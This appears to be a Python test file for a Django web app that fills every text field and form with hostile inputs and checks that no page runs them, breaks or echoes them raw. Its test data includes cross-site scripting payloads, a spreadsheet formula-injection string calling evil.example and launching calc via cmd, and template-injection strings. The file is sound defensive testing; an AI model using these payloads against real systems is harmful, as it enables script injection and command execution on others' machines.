"""Names with 300 characters, right-to-left text, emoji, HTML, formulas and templates in every text field: nothing runs,
nothing breaks, nothing leaves the page."""

import re
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

from django.test import Client
from django.urls import reverse
from playwright.sync_api import Page

from org.models import Person
from tests.browser import Complaints
from tests.factories import BetFactory
from tests.journeys.helpers import SIDEWAYS, sign_in
from tests.texts import fill_texts, free_fields
from tests.world import PAGES

HOSTILE = {
    "long word": "W" * 300,
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>'\"&amp;</td></script>" * 4,
    "formula": '=HYPERLINK("http://evil.example/"&A1,"x")+cmd|\' /C calc\'!A0 @SUM(1) ' * 5,
    "right to left": "\u202eשלום עולם مرحبا بالعالم " * 12,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🦊" * 30,
    "template": "{{ 7|add:7 }} {% now 'Y' %} %(count)s %s {0} ${7*7} \\n " * 6,
}
NARROW, WIDE = 390, 1440
ODD_KEY = "<b>🦊=שלום%&?#"


def test_texts_are_found_in_every_app() -> None:
    labels = {field.model._meta.label for field in free_fields()}
    assert {"bets.Bet", "bets.Hypothesis", "metrics.QuarantinedRow", "org.Person", "org.Event"} <= labels


def test_hostile_texts_everywhere_run_nothing_and_break_no_page(
    page: Page, complaints: Complaints, live_server: Any, everything: dict[str, Any], product_operations: Person,
    client_of: Callable[[Person], Client],
) -> None:  # fmt: skip
    texts = list(HOSTILE.values())
    assert fill_texts(lambda place: texts[place % len(texts)]) > 100
    BetFactory(key=ODD_KEY)
    page.emulate_media(reduced_motion="reduce")
    page.on("dialog", lambda dialog: complaints.append(f"a dialog opened: {dialog.message}"))
    sign_in(page.context, client_of(product_operations), live_server)
    found = []
    for name, address in PAGES.items():
        found += [f"{name}: {one}" for one in _troubles(page, live_server.url + address.url.format(**everything))]
    found += _troubles(page, live_server.url + reverse("show_bet", args=[ODD_KEY]))
    complaints[:] = [one for one in complaints if "the server responded with a status of" not in one]
    assert not found, "\n".join(found)


def _troubles(page: Page, url: str) -> list[str]:
    answer = page.goto(url)
    assert answer is not None
    page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
    found = [] if answer.status < 500 or "/broken/" in url else [f"{url} answered {answer.status}"]
    found += _sideways(page)
    # One page is read wide first and the next one narrow: to change the width takes as long as to look.
    page.set_viewport_size({"width": NARROW if page.viewport_size["width"] == WIDE else WIDE, "height": 900})
    return [*found, *_sideways(page)]


def _sideways(page: Page) -> list[str]:
    return [f"{page.viewport_size['width']}: {one}" for one in page.evaluate(SIDEWAYS)]


class Forms(HTMLParser):
    """The forms of a page: method, action, and the fields with what they would send."""

    def __init__(self) -> None:
        super().__init__()
        self.forms: list[tuple[str, str, dict[str, str], set[str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag == "form":
            self.forms.append((given.get("method", "get"), given.get("action", ""), {}, set()))
        elif self.forms and given.get("name") and tag in ("input", "textarea", "select", "button"):
            _, _, fields, typed = self.forms[-1]
            fields[given["name"]] = given.get("value", "")
            if tag in ("textarea", "select") or given.get("type", "text") not in ("hidden", "submit", "button"):
                typed.add(given["name"])


def test_hostile_texts_typed_into_every_form_are_answered_with_a_page(
    everything: dict[str, Any], product_operations: Person, client_of: Callable[[Person], Client]
) -> None:
    forms = _forms_of(client_of(product_operations), everything)
    assert sum(bool(typed) for *_, typed in forms) > 5
    for text in HOSTILE.values():
        session = client_of(product_operations)
        for method, action, fields, typed in forms:
            who = client_of(product_operations) if action == reverse("account_logout") else session
            _send(who, method, action, fields | dict.fromkeys(typed, text))
        assert session.get(reverse("show_desk")).status_code == 200  # none of them was sent by nobody


def _forms_of(session: Client, everything: dict[str, Any]) -> list[tuple[str, str, dict[str, str], set[str]]]:
    """Every form of every page once; the frame has the same ones on all."""
    found: dict[tuple[str, ...], tuple[str, str, dict[str, str], set[str]]] = {}
    for address in [address for address in PAGES.values() if address.status == 200]:
        url = address.url.format(**everything)
        parser = Forms()
        parser.feed(session.get(url).content.decode())
        for method, action, fields, typed in parser.forms:
            found.setdefault((method, action or url, *fields), (method, action or url, fields, typed))
    return list(found.values())


def _send(session: Client, method: str, action: str, fields: dict[str, str]) -> None:
    if method == "dialog":
        return
    answer = getattr(session, method.lower())(action, fields)
    assert answer.status_code < 500, f"{method} {action} answered {answer.status_code}"
    assert not re.search(rb"<script>alert|<img src=x", answer.content), f"{method} {action} shows what was typed raw"
